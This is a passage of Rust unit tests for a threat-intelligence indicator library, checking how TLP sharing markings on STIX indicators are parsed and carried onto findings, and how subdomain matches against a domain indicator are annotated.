      {"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-000000000004",
       "created":"2021-01-01T00:00:00Z","modified":"2021-01-01T00:00:00Z","valid_from":"2021-01-01T00:00:00Z",
       "pattern":"[ipv4-addr:value = '203.0.113.4']","pattern_type":"stix","labels":["tlp:red"]}
    ]}"#;
    let mut set = IocSet::new();
    set.load_bytes(bundle.as_bytes(), "partner.json").unwrap();
    let tlp_of = |n: u32| {
        set.indicators()
            .iter()
            .find(|i| i.id().ends_with(&format!("{n:012}")))
            .unwrap()
            .meta
            .tlp
    };
    use kahu_intel::Tlp;
    assert_eq!(
        tlp_of(1),
        Some(Tlp::AmberStrict),
        "strictest of two markings"
    );
    assert_eq!(tlp_of(2), Some(Tlp::Amber));
    assert_eq!(tlp_of(3), None);
    assert_eq!(tlp_of(4), Some(Tlp::Red));
    // The marking travels with the finding.
    let e = ev(&[("DestinationIp", "203.0.113.2")]);
    let f = set.findings_for(&e);
    assert_eq!(f.len(), 1);
    assert!(
        f[0].fields
            .iter()
            .any(|(k, v)| &**k == "ioc_tlp" && v == "TLP:AMBER")
    );
}

#[test]
fn a_hit_on_a_name_under_a_domain_indicator_says_it_was_a_subdomain() {
    // `[domain-name:value = 'example.org']` is exact in STIX; kahu also
    // matches names under it, and the finding said only "domain
    // example.org" for a query of `sub.bad.example.org`.
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "example.org\n").unwrap();
    let mut set = IocSet::new();
    set.load_path(&feed).unwrap();
    let note = |q: &str| {
        let e = ev(&[("QueryName", q)]);
        let f = set.findings_for(&e);
        assert_eq!(f.len(), 1, "{q}: {f:#?}");
        kahu_finding::field(&f[0], "ioc_note").map(str::to_string)
    };
    let under = note("Sub.Bad.Example.ORG").expect("a subdomain hit is noted");
    assert!(
        under.contains("sub.bad.example.org is under the indicator's domain example.org"),
        "{under}"
    );
    assert_eq!(note("example.org"), None, "an exact hit needs no note");
}
